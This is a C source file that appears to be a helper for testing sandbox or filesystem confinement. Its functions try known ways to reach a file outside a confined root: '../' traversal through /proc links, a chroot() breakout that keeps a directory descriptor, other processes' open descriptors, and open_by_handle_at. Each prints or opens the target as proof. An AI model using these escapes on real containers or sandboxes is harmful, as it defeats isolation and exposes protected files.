// SPDX-License-Identifier: GPL-2.0
/* Ways to a file outside. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "intruder.h"

#define UP	"../../../../../../../../../../../../../../../.."

/**
 * read_out() - print a file, as the proof that it was reached
 * @dir: directory
 * @path: from there
 *
 * Return: 0 or an errno.
 */
int read_out(int dir, const char *path)
{
	char text[256];
	int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return errno;
	n = read(fd, text, sizeof(text));
	if (n < 0)
		return errno;
	fwrite(text, 1, (size_t)n, stdout);
	close(fd);
	return 0;
}

/**
 * open_write() - get a file to write to; nothing is written
 * @dir: directory
 * @path: from there
 *
 * Return: 0 or an errno.
 */
int open_write(int dir, const char *path)
{
	int fd = openat(dir, path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return errno;
	close(fd);
	return 0;
}

/* From each of these places upwards. */
int try_dotdot(char **argv)
{
	static const char * const from[] = {
		"", "/", "/proc/self/cwd/", "/proc/self/root/", "/dev/fd/",
		"/proc/1/cwd/", "/proc/thread-self/cwd/",
	};
	char path[1024];
	int err = ENOENT;

	for (unsigned int i = 0; err && i < sizeof(from) / sizeof(from[0]); i++) {
		snprintf(path, sizeof(path), "%s" UP "%s", from[i], argv[0]);
		err = read_out(AT_FDCWD, path);
	}
	return err;
}

int try_init_root(char **argv)
{
	char path[1024];

	snprintf(path, sizeof(path), "/proc/1/root/" UP "%s", argv[0]);
	return read_out(AT_FDCWD, path);
}

/*
 * A working directory above the root is what chroot() leaves to those who keep
 * a descriptor, and what pivot_root() doesn't.
 */
int try_chroot(char **argv)
{
	int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (mkdir("/tmp/below", 0700) && errno != EEXIST)
		return errno;
	if (chroot("/tmp/below") || fchdir(above))
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return errno;
	if (chroot("."))
		return errno;
	return read_out(AT_FDCWD, argv[0]);
}

/**
 * try_descriptors_of() - a file outside by whatever a process has left open
 * @process: its folder in /proc
 * @secret: the file
 *
 * Return: 0 or an errno.
 */
int try_descriptors_of(const char *process, const char *secret)
{
	char path[1024];
	struct dirent *entry;
	int err = ENOENT;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", process);
	dir = opendir(path);
	while (dir && err && (entry = readdir(dir))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s/" UP "%s", process,
			 entry->d_name, secret);
		err = read_out(AT_FDCWD, path);
	}
	if (dir)
		closedir(dir);
	return err;
}

int try_descriptors(char **argv)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int err = ENOENT;

	while (proc && err && (entry = readdir(proc)))
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			err = try_descriptors_of(entry->d_name, argv[0]);
	return err;
}

/* The handle of a file on the same file system: it needs no path at all. */
int try_handle(char **argv)
{
	struct file_handle *handle;
	const char *hex = argv[1];
	int dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	char path[64];
	int fd;

	handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	if (!handle)
		return errno;
	handle->handle_type = atoi(argv[0]);
	for (; sscanf(hex, "%2hhx", &handle->f_handle[handle->handle_bytes]) == 1;
	     hex += 2)
		handle->handle_bytes++;
	fd = open_by_handle_at(dir, handle, O_RDONLY);
	if (fd < 0)
		return errno;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return read_out(AT_FDCWD, path);
}

/**
 * try_links_of() - a file outside by what /proc links to
 * @process: a folder in /proc
 * @secret: the file
 *
 * Return: 0 or an errno.
 */
int try_links_of(const char *process, const char *secret)
{
	static const char * const links[] = { "root", "cwd" };
	char path[1024];
	int err = ENOENT;

	for (int i = 0; err && i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s/" UP "%s", process,
			 links[i], secret);
		err = read_out(AT_FDCWD, path);
	}
	return err;
}

int try_links(char **argv)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int err = ENOENT;

	while (proc && err && (entry = readdir(proc)))
		err = try_links_of(entry->d_name, argv[0]);
	return err;
}

int try_open(char **argv)
{
	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);

	return fd < 0 ? errno : 0;
}

int try_write(char **argv)
{
	return open_write(AT_FDCWD, argv[0]);
}
